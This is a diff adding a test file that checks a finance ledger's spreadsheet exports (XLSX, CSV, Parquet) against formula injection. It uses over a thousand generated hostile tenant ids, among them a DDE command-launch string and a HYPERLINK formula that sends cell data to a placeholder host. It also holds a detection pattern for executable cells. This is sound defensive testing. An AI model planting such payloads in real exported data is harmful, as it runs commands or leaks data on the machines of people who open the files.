@@ -1,0 +1,116 @@
+import { readFileSync } from 'node:fs';
+import { join } from 'node:path';
+import { inflateRawSync } from 'node:zlib';
+import { parse } from 'csv-parse/sync';
+import readExcel from 'read-excel-file/node';
+import { expect, test } from 'vitest';
+import { type SheetFormat, writeSheetFile } from '../../../src/reports/files/write-sheet.ts';
+import type { CsvStyle } from '../../../src/reports/formats/csv.ts';
+import { viewSheet } from '../../../src/reports/queries/finance-view.ts';
+import { openDuckDb } from '../../support/duckdb.ts';
+import { openLedger, publish, usageRecord } from '../../support/open-ledger.ts';
+import { temporaryFolder } from '../../support/temporary-folder.ts';
+
+const OPERATORS = ['=', '+', '-', '@', '＝', '＋', '－', '＠'];
+const LEADS = [
+  ...['', ' ', '   ', '\t', '\r', '\n', '\r\n', '\u00a0', '\ufeff', ' \u00a0\ufeff ', '\u2003', '\u3000', '\u200b'],
+  ...['"', '\u0001', '\t='],
+];
+const TAILS = [
+  ...["cmd|'/c calc'!A1", 'SUM(1;1)', '1', 'HYPERLINK("http://x.test/?"&A1,"x")', '_x000D_', '<b>&amp;', 'a,b', ''],
+];
+/** Tenants whose ids some spreadsheet would run, by what they begin with; each once. */
+const HOSTILE = [
+  ...new Set(
+    LEADS.flatMap((lead) => OPERATORS.flatMap((operator) => TAILS.map((tail) => `${lead}${operator}${tail}`))),
+  ),
+];
+
+/** A cell that a spreadsheet would run, whatever it skips before it looks. */
+const RUNS = /^[\p{Z}\p{C}"]*[=+\-@＝＋－＠]/u;
+
+/** A ledger with a record of each of them, and what its view says of them. */
+function hostileLedger() {
+  const { connection } = openLedger();
+  publish(
+    connection,
+    HOSTILE.map((id, index) => usageRecord(id, index)),
+  );
+  const ids = connection.prepare('SELECT tenant_id FROM finance_usage ORDER BY tenant_id').pluck().all() as string[];
+  const write = async (format: SheetFormat, style: CsvStyle = {}): Promise<string> => {
+    const path = join(temporaryFolder(), `usage.${format}`);
+    await writeSheetFile(viewSheet(connection, 'usage'), { path, format, style });
+    return path;
+  };
+  return { ids, write };
+}
+
+test('a thousand hostile ids and more stand in the ledger as the service said them', () => {
+  expect(HOSTILE.length).toBeGreaterThan(1000);
+  expect(new Set(hostileLedger().ids)).toEqual(new Set(HOSTILE));
+});
+
+test('are text in a workbook, and another reader gives them back as they are', async () => {
+  const { ids, write } = hostileLedger();
+  const path = await write('xlsx');
+  const sheets = (await readExcel(path, { trim: false })) as unknown as { data: unknown[][] }[];
+  const [header, ...rows] = sheets[0]?.data ?? [];
+  const column = header?.indexOf('tenant_id') ?? -1;
+  expect(rows.map((cells) => cells[column])).toEqual(ids);
+  const worksheets = Object.entries(zipEntries(readFileSync(path))).filter(([name]) => name.includes('worksheets/'));
+  expect(worksheets).toHaveLength(1);
+  for (const [, xml] of worksheets) {
+    expect(xml).not.toMatch(/<f[\s>/]/);
+    const cells = [...xml.matchAll(/<c r="B\d+"([^>]*)>/g)].map(([, attributes]) => attributes);
+    expect(cells).toHaveLength(ids.length + 1);
+    for (const attributes of cells) expect(attributes).toMatch(/ t="(inlineStr|s)"/);
+  }
+});
+
+test('are run by no spreadsheet from CSV, whatever it cuts the lines by, and lose nothing', async () => {
+  const { ids, write } = hostileLedger();
+  for (const delimiter of [',', ';', '\t'] as const) {
+    const text = readFileSync(await write('csv', { delimiter }), 'utf8');
+    for (const separator of [/,/, /;/, /\t/, /[,;\t]/]) {
+      const cells = text.split(/\r\n|\r|\n/).flatMap((line) => line.split(separator));
+      expect(cells.filter((cell) => RUNS.test(cell))).toEqual([]);
+    }
+    const records = parse(text, { columns: true, delimiter }) as { tenant_id: string }[];
+    const withoutMarks = (id: string | undefined) => id?.replaceAll("'", '');
+    expect(records.map(({ tenant_id }) => withoutMarks(tenant_id))).toEqual(ids.map(withoutMarks));
+    for (const { tenant_id } of records) expect(RUNS.test(tenant_id), JSON.stringify(tenant_id)).toBe(false);
+  }
+  const raw = parse(readFileSync(await write('csv', { raw: true })), { columns: true }) as { tenant_id: string }[];
+  expect(raw.map(({ tenant_id }) => tenant_id)).toEqual(ids);
+});
+
+test('come back from Parquet as they are', async () => {
+  const { ids, write } = hostileLedger();
+  const duck = await openDuckDb();
+  // As bytes: a mark at the start of a text is lost on its way out of DuckDB.
+  const rows = await duck.rows(`SELECT hex(tenant_id) AS bytes FROM read_parquet('${await write('parquet')}')`);
+  expect(rows.map(({ bytes }) => Buffer.from(String(bytes), 'hex').toString())).toEqual(ids);
+});
+
+/** The entries of a ZIP file as text, found by its central directory. */
+function zipEntries(zip: Buffer): Record<string, string> {
+  const end = zip.lastIndexOf('PK\x05\x06', undefined, 'latin1');
+  let at = zip.readUInt32LE(end + 16);
+  const entries: Record<string, string> = {};
+  for (let left = zip.readUInt16LE(end + 10); left > 0; left -= 1) {
+    const [method, size] = [zip.readUInt16LE(at + 10), zip.readUInt32LE(at + 20)];
+    const [nameLength, extra, comment] = [28, 30, 32].map((offset) => zip.readUInt16LE(at + offset)) as [
+      number,
+      number,
+      number,
+    ];
+    const local = zip.readUInt32LE(at + 42);
+    const begin = local + 30 + zip.readUInt16LE(local + 26) + zip.readUInt16LE(local + 28);
+    const packed = zip.subarray(begin, begin + size);
+    entries[zip.toString('utf8', at + 46, at + 46 + nameLength)] = (
+      method === 0 ? packed : inflateRawSync(packed)
+    ).toString();
+    at += 46 + nameLength + extra + comment;
+  }
+  return entries;
+}
